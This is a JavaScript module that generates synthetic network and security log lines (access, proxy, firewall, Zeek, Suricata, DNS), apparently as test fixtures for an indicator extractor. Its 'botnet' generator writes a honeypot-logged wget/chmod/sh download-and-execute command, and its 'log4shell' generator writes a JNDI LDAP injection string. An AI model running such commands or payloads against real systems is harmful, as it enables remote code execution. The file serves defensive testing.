// Lines of web servers, proxies, firewalls, sensors and resolvers.
import { trap } from "./traps.mjs";
import * as make from "./values.mjs";

const AGENTS = [
  (c) => `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) ${c.trap("version", `Chrome/${c.int(80, 140)}.0.0.0`)} Safari/537.36`,
  (c) => `Mozilla/5.0 (X11; Linux x86_64; rv:${c.int(90, 140)}.0) Gecko/20100101 Firefox/${c.int(90, 140)}.0`,
  (c) => `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.${c.int(0, 6)} Safari/605.1.15`,
  (c) => `Mozilla/5.0 (compatible; ${c.name()}bot/${c.int(1, 4)}.0; +${c.plant("url", `http://www.${c.pick(["kelsolbot", "vortasbot", "yarnevbot"])}.com/bot.html`)})`,
  (c) => `curl/8.${c.int(0, 9)}.${c.int(0, 2)}`,
  (c) => `python-requests/2.${c.int(20, 32)}.${c.int(0, 3)}`,
  (c) => `Mozilla/5.0 (Linux; Android 14; ${c.pick(["SM-G991B", "Pixel 8"])}) AppleWebKit/537.36 (KHTML, like Gecko) ${c.trap("version", `Chrome/${c.int(80, 140)}.0.${c.int(1000, 6900)}.${c.int(10, 230)}`)} Mobile Safari/537.36`,
];
const agent = (c) => c.random.popular(AGENTS)(c);
const MONTHS = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split(" ");
const two = (n) => String(n).padStart(2, "0");

export const clock = (c) => c.trap("clock", `${two(c.int(0, 23))}:${two(c.int(0, 59))}:${two(c.int(0, 59))}`);
export const isoTime = (c) => `2026-${two(c.int(1, 12))}-${two(c.int(1, 28))}T${clock(c)}.${c.int(100, 999)}Z`;
export const syslogTime = (c) => `${c.pick(MONTHS)} ${String(c.int(1, 28)).padStart(2)} ${clock(c)}`;

/** What was asked of a server: some would call it a path of Unix. */
function request(c) {
  const path = c.fill(c.pick(["/", "/{word}/{word}.php", "/wp-login.php", "/api/v{int1-3}/{word}/{int1-9999}", "/static/{word}.{hex8}.js", "/images/{word}.png", "/{word}/{word}/", "/cgi-bin/{word}.sh", "/{word}?id={int1-999}"]));
  return c.either("linux_path", path.replace(/\?.*/, ""), path);
}

function access(c) {
  const referer = c.random.chance(0.55) ? c.one("url") : "-";
  const client = c.random.chance(0.08) ? c.one("ipv6", 0.1) : c.one("ipv4");
  return `${client} - ${c.random.chance(0.1) ? c.name() : "-"} [${two(c.int(1, 28))}/${c.pick(MONTHS)}/2026:${clock(c)} +0${c.int(0, 2)}00] "${c.pick(["GET", "GET", "GET", "POST", "HEAD"])} ${request(c)} HTTP/1.1" ${c.pick([200, 200, 200, 301, 304, 404, 500])} ${c.random.size(100, 9000)} "${referer}" "${agent(c)}"`;
}

function squid(c) {
  const tls = c.random.chance(0.4);
  const what = tls ? `CONNECT ${c.one("dns")}:443` : `GET ${c.one("url")}`;
  return `${c.int(1.76e9, 1.79e9)}.${c.int(100, 999)} ${String(c.int(1, 9000)).padStart(6)} ${c.one("ipv4")} TCP_${c.pick(["MISS", "TUNNEL", "HIT"])}/200 ${c.random.size(200, 9000)} ${what} ${c.random.chance(0.5) ? c.name() : "-"} HIER_DIRECT/${c.one("ipv4")} ${tls ? "-" : c.pick(["text/html", "application/json", "image/png", "text/javascript"])}`;
}

function proxyTsv(c) {
  const url = c.value("url");
  return [isoTime(c), c.int(1, 900), c.one("ipv4"), c.name(), c.pick([200, 302, 403]), c.plant("url", url), c.one("dns", 0.05), c.pick(["business", "news", "uncategorised"]), "text/html", c.int(100, 90000), agent(c)].join("\t");
}

const fortigate = (c) => `date=2026-${two(c.int(1, 12))}-${two(c.int(1, 28))} time=${clock(c)} devname="${c.word()}-fw${c.int(1, 9)}" devid="FGT60F${c.int(1e9, 9e9)}" logid="0000000013" type="traffic" subtype="forward" level="notice" srcip=${c.one("ipv4")} srcport=${c.int(1025, 65000)} srcintf="port${c.int(1, 9)}" dstip=${c.one("ipv4")} dstport=${c.pick([80, 443, 53, 22])} proto=6 action="${c.pick(["accept", "deny", "close"])}" policyid=${c.int(1, 99)} service="${c.pick(["HTTPS", "DNS", "SSH"])}" hostname="${c.one("dns")}" duration=${c.int(1, 900)} sentbyte=${c.int(100, 90000)} rcvdbyte=${c.int(100, 90000)} appcat="unscanned" srcmac="${trap(c, "mac")}" mastersrcmac="${trap(c, "mac")}"`;
const iptables = (c) => `${syslogTime(c)} gw kernel: [${c.int(1000, 99999)}.${c.int(100000, 999999)}] [UFW BLOCK] IN=eth0 OUT= MAC=${c.trap("mac", Array.from({ length: 14 }, () => c.random.hex(2)).join(":"))} SRC=${c.one("ipv4")} DST=${c.one("ipv4")} LEN=${c.int(40, 1500)} TOS=0x00 PREC=0x00 TTL=${c.int(40, 250)} ID=${c.int(1, 65000)} DF PROTO=TCP SPT=${c.int(1025, 65000)} DPT=${c.pick([22, 23, 445, 3389])} WINDOW=1024 RES=0x00 SYN URGP=0`;
const asa = (c) => `${syslogTime(c)} asa-edge %ASA-6-302013: Built outbound TCP connection ${c.int(1e6, 9e6)} for outside:${c.one("ipv4")}/443 (${c.one("ipv4", 0.02)}/443) to inside:${c.one("ipv4")}/${c.int(1025, 65000)} (${c.one("ipv4", 0.02)}/${c.int(1025, 65000)})`;
const flow = (c) => `2 ${c.int(1e11, 9e11)} eni-${c.random.hex(17)} ${c.one("ipv4")} ${c.one("ipv4")} ${c.int(1025, 65000)} ${c.pick([443, 80, 22])} 6 ${c.int(1, 90)} ${c.int(40, 90000)} ${c.int(1.76e9, 1.79e9)} ${c.int(1.76e9, 1.79e9)} ACCEPT OK`;
const zeek = (c) => {
  const six = c.random.chance(0.4);
  const address = () => (six ? c.one("ipv6", 0.25) : c.one("ipv4"));
  return [`${c.int(1.76e9, 1.79e9)}.${c.int(100000, 999999)}`, `C${c.random.hex(8)}${c.name().slice(0, 6)}`, address(), c.int(1025, 65000), address(), c.pick([443, 53, 80]), "tcp", "ssl", `${c.int(0, 99)}.${c.int(100000, 999999)}`, c.int(100, 9000), c.int(100, 90000), "SF", "-", "-", 0, "ShADadFf", c.int(1, 99)].join("\t");
};

function suricata(c) {
  const tls = c.random.chance(0.5)
    ? { event_type: "tls", tls: { subject: `CN=${c.one("dns", 0.1)}`, serial: c.trap("serial", Array.from({ length: 9 }, () => c.random.hex(2)).join(":").toUpperCase()), fingerprint: c.trap("fingerprint", Array.from({ length: 20 }, () => c.random.hex(2)).join(":")), sni: c.one("dns"), version: "TLS 1.3", ja3: { hash: c.either("md5_hash", make.md5(c.random)), string: `771,4865-4866-${c.int(100, 999)},0-23-65281,29-23-24,0` } } }
    : { event_type: "http", http: { hostname: c.one("dns"), url: request(c), http_user_agent: agent(c), http_content_type: "text/html", http_method: "GET", protocol: "HTTP/1.1", status: 200, length: c.int(1, 9000) } };
  return JSON.stringify({ timestamp: isoTime(c), flow_id: c.int(1e12, 9e14), in_iface: "eth1", src_ip: c.one("ipv4"), src_port: c.int(1025, 65000), dest_ip: c.one("ipv4"), dest_port: 443, proto: "TCP", ...tls });
}

const bindQuery = (c) => {
  const kind = c.random.next();
  const name = kind < 0.08 ? trap(c, "reversed address") : kind < 0.16 ? c.plant("dns", make.dnsLikeFile(c.random), undefined, "suffix like a file's") : c.one("dns");
  return `${two(c.int(1, 28))}-Mar-2026 ${clock(c)}.${c.int(100, 999)} queries: info: client @0x${c.random.hex(12)} ${c.one("ipv4")}#${c.int(1025, 65000)} (${name}): query: ${name} IN ${kind < 0.08 ? "PTR" : c.pick(["A", "AAAA", "TXT", "MX"])} +E(0)K (${c.one("ipv4", 0.001)})`;
};
const dnsmasq = (c) => {
  const name = c.one("dns");
  const what = c.pick([() => `query[A] ${name} from ${c.one("ipv4")}`, () => `reply ${name} is ${c.one("ipv4")}`, () => `reply ${name} is ${c.one("ipv6", 0.4)}`, () => `forwarded ${name} to ${c.one("ipv4", 0.001)}`, () => `cached ${name} is <CNAME>`])();
  return `${syslogTime(c)} dnsmasq[${c.int(300, 9000)}]: ${what}`;
};
const dnsJson = (c) => JSON.stringify({ ts: isoTime(c), client: { ip: c.one("ipv4"), mac: trap(c, "mac") }, query: c.one("dns"), qtype: "A", rcode: "NOERROR", answers: [c.one("ipv4"), c.one("ipv6", 0.3)], ttl: 300, rtt_ms: c.int(1, 99) / 10 });
const nginxError = (c) => `${c.trap("date", `2026/${two(c.int(1, 12))}/${two(c.int(1, 28))}`)} ${clock(c)} [error] ${c.int(100, 9999)}#${c.int(1, 99)}: *${c.int(1, 99999)} open() "${c.one("linux_path")}" failed (2: No such file or directory), client: ${c.one("ipv4")}, server: ${c.one("dns", 0.05)}, request: "GET ${request(c)} HTTP/1.1", host: "${c.one("dns", 0.05)}"`;
function botnet(c) {
  const script = c.word();
  const then = c.pick([";", "; ", " && "]);
  const name = () => c.trap("file", `${script}.sh`);
  return `${syslogTime(c)} honeypot cowrie: CMD: cd ${c.either("linux_path", "/tmp")}; wget ${c.plant("url", `http://${make.ipv4(c.random)}/${script}.sh`, undefined, "before a command")}${then}chmod +x ${name()}${then}sh ${name()}; curl -O '${c.one("url")}' && echo ok`;
}
const log4shell = (c) => `${isoTime(c)} WARN waf - blocked header X-Api-Version: \${jndi:${c.plant("url", `ldap://${make.ipv4(c.random)}:${c.int(1025, 9999)}/${c.random.hex(6)}`, undefined, "ldap")}} from ${c.one("ipv4")}`;
const ports = (c) => `${isoTime(c)} haproxy[${c.int(300, 9000)}]: [${c.one("ipv6", 0.5)}]:${c.int(1025, 65000)} -> ${c.one("ipv4")}:${c.int(80, 9000)} frontend~ ${c.word()}/${c.word()}${c.int(1, 9)} ${c.int(0, 99)}/0/${c.int(0, 9)}/${c.int(1, 900)}/${c.int(1, 900)} 200 ${c.int(100, 9000)} - - ----`;
const php = (c) => { const url = make.url(c.random).replace(/\/?$/, "/x"); return `{"level":"info","callback":"${c.plant("url", url, url.replaceAll("/", "\\/"), "slashes escaped")}","ip":"${c.one("ipv4")}"}`; };
const cidr = (c) => { const net = `${c.int(20, 200)}.${c.int(0, 255)}.${c.int(0, 255)}.0`; const six = `2a02:${c.random.hex(4)}::`; return `${isoTime(c)} bgpd[${c.int(300, 999)}]: ${c.either("ipv4", net)}/${c.int(16, 24)} via ${c.one("ipv4")} origin ${c.one("asn", 0.7)} path ${c.one("asn", 0.3)} ${c.one("asn", 0.3)}, ${c.either("ipv6", six)}/32 added`; };

export const LINES = [
  [90, access], [50, squid], [30, proxyTsv], [40, fortigate], [30, iptables], [20, asa], [30, flow], [35, zeek], [35, suricata],
  [30, bindQuery], [40, dnsmasq], [20, dnsJson], [12, nginxError], [6, botnet], [2, log4shell], [5, ports], [0.1, php], [6, cidr],
];
